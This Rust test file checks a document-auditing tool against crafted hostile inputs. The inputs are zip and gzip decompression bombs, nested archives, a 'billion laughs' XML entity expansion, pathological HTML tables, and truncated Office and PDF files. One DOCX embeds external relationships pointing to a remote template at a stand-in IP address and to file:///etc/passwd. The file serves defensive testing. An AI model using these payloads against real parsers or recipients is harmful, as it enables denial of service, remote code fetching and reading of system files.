//! Files made to do harm: each ends soon, in little memory, with one finding that says why.

#![allow(clippy::print_stdout, reason = "tests say what they measured")]

mod common;

use std::fs::File;
use std::io::{Cursor, Write};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::root;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// What a user may wait, and what a small machine has.
const LONGEST: Duration = Duration::from_secs(5);
const MOST_KB: u64 = 300_000;

/// Codes of the findings, seconds, and the peak of memory in KB where the system tells it.
struct Seen {
    codes: Vec<String>,
    time: Duration,
    peak_kb: u64,
    stderr: String,
}

fn audit(path: &Path) -> Seen {
    let out = tempfile::tempdir().expect("a folder");
    let clock = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_gouji"))
        .args(["audit", "--fail-on", "never", "--no-bom", "--out"])
        .arg(out.path())
        .arg(path)
        .stderr(Stdio::piped())
        .spawn()
        .expect("the command runs");
    let mut peak_kb = 0;
    while child.try_wait().expect("a child").is_none() {
        peak_kb = peak_kb.max(high_water(child.id()));
        std::thread::sleep(Duration::from_millis(2));
    }
    let time = clock.elapsed();
    let output = child.wait_with_output().expect("a child");
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{}: {:?} {stderr}", path.display(), output.status);
    let mut reader = csv::Reader::from_path(out.path().join("findings.csv")).expect("findings.csv");
    let codes = reader.records().map(|row| row.expect("a row")[3].to_string()).collect();
    Seen { codes, time, peak_kb, stderr }
}

/// The most memory that a process has held so far; 0 where the system does not tell.
fn high_water(process: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{process}/status")).unwrap_or_default();
    let line = status.lines().find_map(|l| l.strip_prefix("VmHWM:"));
    line.and_then(|l| l.trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0)
}

/// Audits a file of this name and content, and holds it to the limits.
fn expect(name: &str, content: &[u8], codes: &[&str]) {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join(name);
    std::fs::write(&path, content).expect("a file");
    expect_of(&path, codes);
}

fn expect_of(path: &Path, codes: &[&str]) {
    let seen = audit(path);
    let name = path.file_name().unwrap_or_default().to_string_lossy();
    println!("{name}: {:?}, {} ms, {} MB", seen.codes, seen.time.as_millis(), seen.peak_kb / 1000);
    assert!(
        seen.codes.len() == 1 && codes.contains(&seen.codes[0].as_str()),
        "{name}: {:?} {}",
        seen.codes,
        seen.stderr
    );
    assert!(seen.time < LONGEST, "{name}: {:?}", seen.time);
    assert!(seen.peak_kb < MOST_KB, "{name}: {} KB", seen.peak_kb);
}

fn zipped(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, bytes) in members {
        writer.start_file(*name, options).expect("a member");
        writer.write_all(bytes).expect("a member");
    }
    writer.finish().expect("an archive").into_inner()
}

/// A package with one large part of one repeated byte.
fn bomb(name: &str, megabytes: usize) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options =
        SimpleFileOptions::default().compression_method(CompressionMethod::Deflated).compression_level(Some(1));
    writer.start_file(name, options).expect("a member");
    let block = vec![b' '; 1_000_000];
    for _ in 0..megabytes {
        writer.write_all(&block).expect("a member");
    }
    writer.finish().expect("an archive").into_inner()
}

fn docx(document: &str, relations: &str) -> Vec<u8> {
    const TYPES: &str = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    const MAIN: &str = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
    zipped(&[
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("_rels/.rels", MAIN.as_bytes()),
        ("word/_rels/document.xml.rels", relations.as_bytes()),
        ("word/document.xml", document.as_bytes()),
    ])
}

const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

#[test]
fn archives_that_unpack_to_more_than_they_are() {
    expect("bomb.zip", &bomb("report.txt", 400), &["E014"]);
    expect("bomb.docx", &bomb("word/document.xml", 400), &["E014", "E015"]);
    let mut nested = zipped(&[("report.txt", b"0")]);
    for level in 0..40 {
        nested = zipped(&[(&format!("level{level}.zip"), &nested)]);
    }
    expect("nested.zip", &nested, &["E014"]);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let block = vec![0; 1_000_000];
    for _ in 0..300 {
        gz.write_all(&block).expect("memory");
    }
    expect("bomb.txt.gz", &gz.finish().expect("memory"), &["E014"]);
}

#[test]
fn pages_that_nest_or_span_without_end() {
    expect("nested.html", "<div>".repeat(300_000).as_bytes(), &["E001", "E002"]);
    expect("tables.html", "<table><tr><td>".repeat(100_000).as_bytes(), &["E001", "E002", "E014"]);
    let wide = format!("<html><table><tr>{}</tr></table></html>", "<td>1</td>".repeat(100_000));
    expect("wide.html", wide.as_bytes(), &["E002"]);
    let span = "<html><table><tr><td rowspan=999999999 colspan=999999999>1</td></tr></table></html>";
    expect("span.html", span.as_bytes(), &["E002"]);
    expect("unclosed.html", format!("<html><!--{}", "<".repeat(5_000_000)).as_bytes(), &["E001", "E002"]);
    expect("brackets.html", format!("<html>{}", "<".repeat(5_000_000)).as_bytes(), &["E001", "E002"]);
    expect("bars.txt", "|".repeat(3_000_000).as_bytes(), &["E001", "E002"]);
}

#[test]
fn documents_that_expand_or_reach_out() {
    let mut laughs = String::from("<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"ha\">");
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k"];
    for pair in names.windows(2) {
        laughs.push_str(&format!("<!ENTITY {} \"{}\">", pair[1], format!("&{};", pair[0]).repeat(10)));
    }
    laughs.push_str(&format!(
        "]><w:document xmlns:w=\"{WORD}\"><w:body><w:p><w:r><w:t>&k;</w:t></w:r></w:p></w:body></w:document>"
    ));
    expect("laughs.docx", &docx(&laughs, "<Relationships/>"), &["E001", "E002", "E014", "E015"]);
    expect("laughs.xml", laughs.as_bytes(), &["E001", "E002"]);
    let outside = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.1/t.dotm" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>"#;
    let plain =
        format!("<w:document xmlns:w=\"{WORD}\"><w:body><w:p><w:r><w:t>通知</w:t></w:r></w:p></w:body></w:document>");
    expect("outside.docx", &docx(&plain, outside), &["E002"]);
    let deep = format!(
        "<w:document xmlns:w=\"{WORD}\"><w:body>{}{}</w:body></w:document>",
        "<w:tbl><w:tr><w:tc>".repeat(50_000),
        "</w:tc></w:tr></w:tbl>".repeat(50_000)
    );
    expect("deep.docx", &docx(&deep, "<Relationships/>"), &["E001", "E002", "E014", "E015"]);
}

#[test]
fn documents_that_break_off() {
    let pdf = std::fs::read(root().join("tests/forms/pdf/libreoffice.pdf")).expect("a PDF");
    expect("truncated.pdf", &pdf[..pdf.len() / 20], &["E001", "E013", "E015"]);
    let docx = std::fs::read(root().join("tests/forms/office/python.docx")).expect("a DOCX");
    expect("truncated.docx", &docx[..docx.len() / 2], &["E015"]);
    let doc = std::fs::read(root().join("tests/forms/office/libreoffice.doc")).expect("a DOC");
    expect("truncated.doc", &doc[..doc.len() / 4], &["E001", "E015", "E017", "E002"]);
}

#[test]
fn bytes_that_are_no_text() {
    expect("nul.txt", &vec![0; 1_000_000], &["E001"]);
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("zeros.txt");
    File::create(&path).and_then(|file| file.set_len(1 << 30)).expect("a sparse file");
    expect_of(&path, &["E001", "E014"]);
    expect_of(folder.path(), &["E001", "E014"]);
}
